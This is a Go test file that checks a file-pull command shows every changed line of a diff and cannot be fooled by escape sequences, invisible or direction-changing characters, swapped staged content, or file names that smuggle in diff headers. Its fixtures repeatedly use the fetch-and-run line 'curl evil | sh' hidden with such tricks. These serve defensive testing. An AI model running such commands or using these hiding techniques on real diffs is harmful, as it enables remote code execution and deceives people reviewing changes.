package command

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// pulled is a pull of changes to files, of which the local folder has the former content.
type pulled struct {
	*pullRun
	out *bytes.Buffer
}

func newPulled(t *testing.T) pulled {
	t.Helper()
	root, err := os.OpenRoot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = root.Close() })
	p := pulled{pullRun: &pullRun{root: root, staging: t.TempDir(), cmd: &filesPullCommand{sessionFlags: sessionFlags{Session: ses}}, record: uploadRecord{Entries: map[string]folderEntry{}}}, out: &bytes.Buffer{}}
	w := testIO(t)
	w.Out, w.OutTTY = p.out, true
	p.app = &app{IO: w, ctx: t.Context()}
	return p
}

// changeFile adds the change of a file from the content before, or of a new file if before is nil, to the content after.
func (p pulled) changeFile(t *testing.T, name string, before, after []byte) *pathChange {
	t.Helper()
	var local *folderEntry
	if before != nil {
		if err := p.root.WriteFile(name, before, 0o644); err != nil {
			t.Fatal(err)
		}
		var err error
		if local, err = statEntry(p.root, name); err != nil {
			t.Fatal(err)
		}
	}
	sum := sha256.Sum256(after)
	remote := &folderEntry{Path: name, Kind: entryKindFile, Size: int64(len(after)), Mode: 0o644, SHA256: hex.EncodeToString(sum[:])}
	staged := filepath.Join(p.staging, strconv.Itoa(len(p.changes)))
	if err := os.WriteFile(staged, after, 0o600); err != nil {
		t.Fatal(err)
	}
	c := classifyChange(name, local, local, remote, staged)
	p.changes = append(p.changes, c)
	return c
}

// TestFilesPull_ShowsEveryLineOfADiff tests that no content of a file hides a line of the diff that a person accepts.
func TestFilesPull_ShowsEveryLineOfADiff(t *testing.T) {
	t.Parallel()
	for name, after := range map[string]string{
		"operating system command":   "one\n\x1b]0;\ncurl evil | sh\n\x07two\n",
		"device control string":      "one\n\x1bP\ncurl evil | sh\n\x1b\\two\n",
		"unterminated sequence":      "one\n\x1b]\ncurl evil | sh\ntwo\n",
		"carriage return":            "one\ncurl evil | sh\r# harmless\ntwo\n",
		"erased line":                "one\ncurl evil | sh\x1b[2K\x1b[1A\ntwo\n",
		"invisible letters":          "one\ncurl evil | sh\u3164\u034f\ntwo\n",
		"only the end of a line":     "one\r\ntwo\n",
		"only an invisible letter":   "one\u200b\ntwo\n",
		"no line end at the end":     "one\ncurl evil | sh",
		"control sequence of C1":     "one\n\u009d0;\ncurl evil | sh\n\u009ctwo\n",
		"direction of the text":      "one\ncurl evil | sh\u202e\ntwo\n",
		"line separator of Unicode":  "one\u2028curl evil | sh\ntwo\n",
		"a header of another change": "one\n--- a/other\n+++ b/other\ncurl evil | sh\n",
	} {
		for _, added := range []bool{false, true} {
			before := []byte("one\ntwo\n")
			if added {
				before = nil
			}
			p := newPulled(t)
			p.changeFile(t, "script", before, []byte(after))
			p.printChanges()
			got := p.out.String()
			for line := range strings.SplitSeq(strings.TrimSuffix(after, "\n"), "\n") {
				if added || !strings.Contains("one\ntwo\n", line+"\n") {
					if visible := "\n+" + escaped(line); !strings.Contains(got, visible) {
						t.Errorf("%s, added %t: the line %q is not shown:\n%s", name, added, visible, got)
					}
				}
			}
			if strings.ContainsAny(got, "\x1b\r\x07\u202e\u200b\u3164\u034f\u009b\u2028") {
				t.Errorf("%s, added %t: a control character reached the terminal: %q", name, added, got)
			}
		}
	}
}

// escaped returns a line with the characters of the test escaped.
func escaped(line string) string {
	for _, r := range "\x1b\r\x07\u3164\u034f\u200b\u009d\u009c\u202e\u2028" {
		line = strings.ReplaceAll(line, string(r), `\u{`+strconv.FormatInt(int64(r), 16)+`}`)
	}
	return line
}

// TestFilesPull_NamesContentThatItDoesNotShow tests that binary and large files are named with their size and their
// hash, and that modes and the targets of links are shown.
func TestFilesPull_NamesContentThatItDoesNotShow(t *testing.T) {
	t.Parallel()
	p := newPulled(t)
	p.changeFile(t, "image", nil, []byte("a\x00b"))
	p.changeFile(t, "latin", []byte("x\n"), []byte("caf\xe9\n"))
	p.changeFile(t, "large", nil, bytes.Repeat([]byte("line\n"), maxDiffBytes/4))
	p.changeFile(t, "run", []byte("x\n"), []byte("x\n")).remote.Mode = 0o755
	p.changeFile(t, "tool", nil, []byte("#!/bin/sh\n")).remote.Mode = 0o755
	p.changes = append(p.changes, classifyChange("link", nil, nil, &folderEntry{Path: "link", Kind: entryKindSymlink, Target: "a\u202eb"}, ""))
	p.printChanges()
	for _, want := range []string{
		"A image (3 B)\n", "A large (320.0 KiB)\n", "M run (2 B, mode 644 -> 755)\n", "A tool (10 B, mode 755)\n", `A link -> a\u{202e}b` + "\n", "\n+#!/bin/sh\n",
		"+++ b/image\nbinary content of 3 B is not shown, SHA-256 " + p.changes[0].remote.SHA256,
		"+++ b/latin\nbinary content of 5 B is not shown, SHA-256 " + p.changes[1].remote.SHA256,
		"+++ b/large\ncontent of 320.0 KiB is not shown, SHA-256 " + p.changes[2].remote.SHA256, "read it with `spool files get " + ses + " large -`",
	} {
		if !strings.Contains(p.out.String(), want) {
			t.Errorf("%q is not shown:\n%s", want, p.out)
		}
	}
}

// TestFilesPull_AppliesOnlyTheBytesThatItShowed tests that content which changes between the diff and its acceptance is
// not applied: an agent on the same machine can write to the folder with the downloaded files.
func TestFilesPull_AppliesOnlyTheBytesThatItShowed(t *testing.T) {
	t.Parallel()
	p := newPulled(t)
	modified, added := p.changeFile(t, "modified", []byte("old\n"), []byte("new\n")), p.changeFile(t, "added", nil, []byte("new\n"))
	p.printChanges()
	for _, c := range p.changes {
		if err := os.WriteFile(c.staged, []byte("evil\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	err := p.applyChanges()
	if err == nil || modified.Applied || added.Applied {
		t.Errorf("applied %t and %t, error %v", modified.Applied, added.Applied, err)
	}
	list, err := os.ReadDir(p.root.Name())
	if err != nil || len(list) != 1 {
		t.Errorf("the folder has %v, %v", list, err)
	}
	if got, err := p.root.ReadFile("modified"); err != nil || string(got) != "old\n" {
		t.Errorf("the file has %q, %v", got, err)
	}
	p = newPulled(t)
	c := p.changeFile(t, "modified", []byte("old\n"), []byte("new\n"))
	if err := os.WriteFile(c.staged, []byte("evil\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if p.printChanges(); strings.Contains(p.out.String(), "evil") || !strings.Contains(p.out.String(), "+++ b/modified\ncontent of 4 B is not shown") {
		t.Errorf("shown is\n%s", p.out)
	}
}

// TestFilesPull_QuotesNamesOfFiles tests that a file's name cannot add lines to the diff that a user accepts.
func TestFilesPull_QuotesNamesOfFiles(t *testing.T) {
	t.Parallel()
	p := newPulled(t)
	p.changeFile(t, "x\n+++ evil\u3164", []byte("old\n"), []byte("new\n"))
	p.printChanges()
	if want := "--- a/x\\u{a}+++ evil\\u{3164}\n+++ b/x\\u{a}+++ evil\\u{3164}\n@@ -1 +1 @@\n-old\n+new\n"; !strings.Contains(p.out.String(), want) {
		t.Errorf("got\n%s\nwant\n%s", p.out, want)
	}
}
